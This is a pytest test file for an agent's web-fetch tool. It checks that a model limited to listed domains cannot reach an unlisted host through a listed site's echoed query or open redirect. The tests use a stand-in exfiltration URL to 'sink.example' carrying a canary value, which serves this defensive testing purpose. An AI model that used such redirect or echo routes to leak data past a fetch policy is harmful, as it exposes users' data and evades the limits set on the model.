"""A model that may open a listed site cannot reach past it with an address of its own."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
from aiohttp import web
from fakes.tool_room import SaidUrls, context, reason_of, text_of
from fakes.web import Web, serve_web

from geode.steps import Done, Tool
from geode.tools import web_fetch
from geode.tools.web_fetch import FetchGrant, FetchPolicy

LEAK = "http://sink.example/?d=canary"
LISTED = ("docs.example",)


async def answer(request: web.Request) -> web.StreamResponse:
    """A site that repeats what it is asked for, and one that sends people where they say."""
    if request.path == "/to":
        raise web.HTTPFound(request.query["url"])
    return web.Response(text=f"Nothing found for {request.query.get('q', 'you')}")


@pytest.fixture
async def site() -> AsyncIterator[Web]:
    async with serve_web(answer) as opened:
        yield opened


def build(site: Web, policy: FetchPolicy = "seen", *said: str) -> tuple[Tool, SaidUrls]:
    """The tool, and a witness that hears the results that may name addresses."""
    witness = SaidUrls(*said)
    grant = FetchGrant(policy, LISTED)
    return web_fetch.build(witness, grant, fetch_page=site.fetch), witness


async def fetch(tool: Tool, witness: SaidUrls, url: str) -> str:
    """One call; its result is heard as the session would hear it."""
    ending = await tool.handler(context(), {"url": url})
    if not isinstance(ending, Done):
        return reason_of(ending)
    if ending.names_urls:
        witness.texts.append(ending.text)
    return ending.text


async def test_listed_site_that_repeats_the_query_names_nothing(site: Web) -> None:
    tool, witness = build(site)

    repeated = await fetch(tool, witness, f"http://docs.example/?q={LEAK}")
    refused = await fetch(tool, witness, LEAK)

    assert LEAK in repeated
    assert "not named" in refused
    assert "sink.example" not in site.asked


@pytest.mark.parametrize("policy", ["seen", "listed"])
async def test_listed_site_that_redirects_leads_nowhere_else(
    site: Web, policy: FetchPolicy
) -> None:
    tool, witness = build(site, policy)

    refused = await fetch(tool, witness, f"http://docs.example/to?url={LEAK}")

    assert "not one of the domains" in refused
    assert "sink.example" not in site.asked


async def test_listed_site_may_redirect_within_the_list(site: Web) -> None:
    tool, witness = build(site)

    shown = await fetch(tool, witness, "http://docs.example/to?url=http://en.docs.example/x")

    assert shown.startswith("Fetched http://en.docs.example/x ")


async def test_page_that_a_person_named_may_lead_on_though_its_site_is_listed(site: Web) -> None:
    """The positive control: the same site, address and redirect, but a person chose them."""
    named = f"http://docs.example/?q={LEAK}"
    hop = "http://docs.example/to?url=http://other.example/"
    tool, witness = build(site, "seen", named, hop)

    await fetch(tool, witness, named)
    assert "sink.example" not in site.asked
    assert text_of(await tool.handler(context(), {"url": LEAK}))
    await fetch(tool, witness, hop)

    assert [host for host in site.asked if host != "docs.example"] == [
        "sink.example",
        "other.example",
    ]
